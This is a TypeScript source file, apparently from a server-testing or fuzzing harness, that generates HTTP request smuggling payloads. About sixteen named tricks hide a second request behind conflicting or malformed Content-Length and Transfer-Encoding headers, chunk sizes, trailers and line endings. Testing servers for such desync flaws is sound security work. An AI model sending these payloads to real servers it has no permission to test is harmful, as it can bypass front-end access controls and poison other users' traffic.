// Bodies whose end two readers see in different places, each from a seed. Every trick hides a second request in what one
// reader takes for a body; a server that answers the hidden request has been fooled.
import type { Dice } from '../model/dice.ts';

type Trick = (dice: Dice, hidden: string, head: string) => string;

const end = '\r\n\r\n';

function size(text: string): string {
  return Buffer.byteLength(text).toString(16);
}

function chunked(text: string, ending = '\r\n'): string {
  return `${size(text)}${ending}${text}${ending}0${ending}${ending}`;
}

const encodings = [
  ...['chunked', 'Chunked', 'chunked, identity', 'identity, chunked', 'xchunked', 'chunked\u000b', '"chunked"'],
  ...['gzip, chunked', 'chunked, chunked', 'chunked;q=1', 'chu\tnked', ''],
];

/** `head` is everything up to the headers about the body, which end a line; `hidden` is a whole request. */
export const smugglingTricks: Readonly<Record<string, Trick>> = {
  'length and encoding': (dice, hidden, head) =>
    `${head}Content-Length: ${dice.pick([0, 4, 5, hidden.length])}\r\nTransfer-Encoding: ${dice.pick(encodings)}${end}0${end}${hidden}`,
  'encoding and length': (dice, hidden, head) =>
    `${head}Transfer-Encoding: ${dice.pick(encodings)}\r\nContent-Length: ${dice.pick([3, 6, hidden.length + 5])}${end}${chunked('{}')}${hidden}`,
  'an odd encoding': (dice, hidden, head) =>
    `${head}Transfer-Encoding: ${dice.pick(encodings.slice(2))}${end}${chunked('{}')}${hidden}`,
  'two encodings': (dice, hidden, head) =>
    `${head}Transfer-Encoding: chunked\r\nTransfer-Encoding: ${dice.pick(encodings.slice(2))}${end}0${end}${hidden}`,
  'two lengths': (dice, hidden, head) =>
    `${head}Content-Length: 2\r\nContent-Length: ${dice.pick([0, 3, hidden.length + 2])}${end}{}${hidden}`,
  'an odd length': (dice, hidden, head) =>
    `${head}Content-Length: ${dice.pick(['+2', '-1', '0x2', '2, 2', '2 2', '2;', '02e0', '٢', '2\u000b', '9'.repeat(30)])}${end}{}${hidden}`,
  'a space before the colon': (dice, hidden, head) =>
    `${head}${dice.pick(['Content-Length :', 'Content-Length\t:', 'Transfer-Encoding :', ' Content-Length:'])} ${dice.pick(['2', 'chunked'])}${end}${chunked('{}')}${hidden}`,
  'a folded header': (dice, hidden, head) =>
    `${head}Content-Length: 2\r\nX-Fold: a\r\n${dice.pick([' ', '\t'])}Transfer-Encoding: chunked${end}{}${hidden}`,
  'a bare line feed': (dice, hidden, head) =>
    `${head}Content-Length: 2${dice.pick(['\n', '\r', '\n\r'])}Transfer-Encoding: chunked${end}{}${hidden}`,
  'an odd end of a chunk': (dice, hidden, head) =>
    `${head}Transfer-Encoding: chunked${end}${chunked('{}', dice.pick(['\n', '\r', '\n\r']))}${hidden}`,
  'an odd size of a chunk': (dice, hidden, head) =>
    `${head}Transfer-Encoding: chunked${end}${dice.pick(['0x2', '-2', '+2', '2 ', ' 2', '2;a=\n', 'fffffffffffffffff', '2\u0000'])}\r\n{}\r\n0${end}${hidden}`,
  // The hidden request lies inside a body that is plainly one.
  'an extension of a chunk': (dice, hidden, head) =>
    `${head}Transfer-Encoding: chunked${end}${size(hidden)};${dice.pick(['a=b', 'a="b\r\n"', 'a\n', 'x'.repeat(100)])}\r\n${hidden}\r\n0${end}`,
  trailers: (dice, hidden, head) =>
    `${head}Transfer-Encoding: chunked\r\nTrailer: Authorization${end}${size(hidden)}\r\n${hidden}\r\n0\r\n${dice.pick(['Content-Length: 5', 'Authorization: Bearer x', 'Impersonate-User: root', 'Transfer-Encoding: chunked'])}${end}`,
  'a body of a GET': (dice, hidden, head) =>
    `${head.replace(/^POST \S+/, 'GET /kubernetes/management/version')}Content-Length: ${dice.pick([hidden.length, hidden.length - 1])}${end}${hidden}`,
  'a NUL in a header': (_, hidden, head) => `${head}X-A: a\u0000b\r\nContent-Length: 2${end}{}${hidden}`,
  'an old version': (dice, hidden, head) =>
    `${head.replace('HTTP/1.1', dice.pick(['HTTP/1.0', 'HTTP/0.9', 'HTTP/2.0', 'HTTP/1.2', 'http/1.1']))}Transfer-Encoding: chunked${end}0${end}${hidden}`,
};
